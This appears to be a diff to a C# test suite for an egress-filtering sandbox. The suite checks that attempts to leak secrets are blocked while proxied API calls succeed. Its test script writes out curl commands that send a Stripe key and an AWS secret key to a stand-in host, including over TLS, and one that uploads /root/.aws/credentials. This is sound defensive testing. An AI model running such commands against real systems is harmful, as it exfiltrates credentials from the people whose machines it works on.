@@ -45,6 +45,8 @@ public sealed class EgressSecretTests(EgressSession session) : IClassFixture<Egr
             "step api_direct noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge-direct\n" +
             "step leak_header noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" http://pkgs.test/leak-header\n" +
             "step leak_query curl -fsS --max-time 10 \"http://pkgs.test/leak-query?k=$STRIPE_KEY\"\n" +
+            "step leak_tls noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://pkgs.test/leak-tls\n" +
+            "step canary_tls curl -fsS --max-time 10 -X POST --data \"aws=$AWS_SECRET_ACCESS_KEY\" https://pkgs.test/upload-tls\n" +
             "step canary_body curl -fsS --max-time 10 -X POST --data \"aws=$AWS_SECRET_ACCESS_KEY\" http://pkgs.test/upload\n" +
             "step canary_file noproxy curl -fsS --max-time 10 --data-binary @/root/.aws/credentials http://pkgs.test/upload-file\n" +
             $"step search python3 -c \"{Search}\" {reversed}\n";
@@ -60,7 +62,7 @@ public sealed class EgressSecretTests(EgressSession session) : IClassFixture<Egr
         Assert.Equal(2, charges.Count);
         Assert.All(charges, r => Assert.Equal($"Bearer {real}", r.GetProperty("headers").GetProperty("Authorization").GetString()));
 
-        foreach (var blocked in new[] { "leak_header", "leak_query", "canary_body", "canary_file" })
+        foreach (var blocked in new[] { "leak_header", "leak_query", "leak_tls", "canary_body", "canary_file", "canary_tls" })
         {
             Assert.True(results[blocked].Exit != 0 || results[blocked].Output.Contains("403", StringComparison.Ordinal), $"{blocked} got through:\n{report}");
         }
